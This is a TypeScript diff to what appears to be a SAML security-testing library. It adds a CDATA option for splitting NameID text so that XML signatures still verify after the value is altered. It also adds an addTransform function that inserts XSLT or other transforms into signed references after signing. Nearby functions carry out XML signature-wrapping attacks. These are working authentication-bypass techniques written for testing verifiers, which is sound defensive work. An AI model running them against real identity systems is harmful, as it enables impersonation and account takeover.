@@ -132,11 +132,13 @@ export function injectComment(xml: string, at?: string | number): string {
 export type IdentityField = { nameId: true } | { attribute: string };
 
 /** What {@link injectNode} puts into the field's text. */
-export type HiddenNode = 'comment' | 'processing-instruction';
+export type HiddenNode = 'comment' | 'processing-instruction' | 'cdata';
 
 /**
  * Splits the text of an identity field (NameID, or every value of one attribute) with an empty
- * comment or a processing instruction (`<?x?>`), at `at` as in {@link injectComment}. Applied
+ * comment or a processing instruction (`<?x ?>`), or puts the rest of the text in a CDATA
+ * section, at `at` as in {@link injectComment}. c14n turns CDATA into text, so a CDATA split
+ * keeps the signature too. Applied
  * after signing, the signature still verifies (exclusive c14n without comments drops comments, and
  * node-saml's reader may see only the first text node); applied before signing (then re-signed with
  * `signResponseXml`), the IdP itself signed the split value (the Duo 2018 class of bugs).
@@ -150,8 +152,12 @@ export function injectNode(xml: string, field: IdentityField, node: HiddenNode, 
       const cut = commentOffset(text, at);
       while (el.firstChild) el.removeChild(el.firstChild);
       el.appendChild(doc.createTextNode(text.slice(0, cut)));
-      el.appendChild(node === 'comment' ? doc.createComment('') : doc.createProcessingInstruction('x', ''));
-      el.appendChild(doc.createTextNode(text.slice(cut)));
+      // An empty CDATA section does not survive a parse (xmldom drops it): it holds the rest instead.
+      if (node === 'cdata') el.appendChild(doc.createCDATASection(text.slice(cut)));
+      else {
+        el.appendChild(node === 'comment' ? doc.createComment('') : doc.createProcessingInstruction('x', ''));
+        el.appendChild(doc.createTextNode(text.slice(cut)));
+      }
     }
   });
 }
@@ -271,6 +277,25 @@ export function xsw8(xml: string, evilNameId: string): string {
     object.appendChild(original);
     signature.appendChild(object);
   });
+}
+
+/**
+ * Adds a transform with `algorithm` (e.g. XSLT) to every Reference in scope, after signing: a
+ * verifier that runs transforms before checking the SignatureValue runs attacker code (XSLT DoS,
+ * CVE-2021-3839-style). `content` is put inside the ds:Transform as XML.
+ */
+export function addTransform(xml: string, algorithm: string, content: string, scope: SignatureScope = 'all'): string {
+  const marked = edit(xml, (doc) => {
+    for (const sig of signaturesIn(doc, scope)) {
+      for (const transforms of Array.from(sig.getElementsByTagNameNS(NS.ds, 'Transforms'))) {
+        const t = doc.createElementNS(NS.ds, 'ds:Transform');
+        t.setAttribute('Algorithm', algorithm);
+        t.appendChild(doc.createTextNode('@@TRANSFORM@@'));
+        transforms.appendChild(t);
+      }
+    }
+  });
+  return marked.split('@@TRANSFORM@@').join(content);
 }
 
 /** The eight XSW variants by name, for tables of tests. */
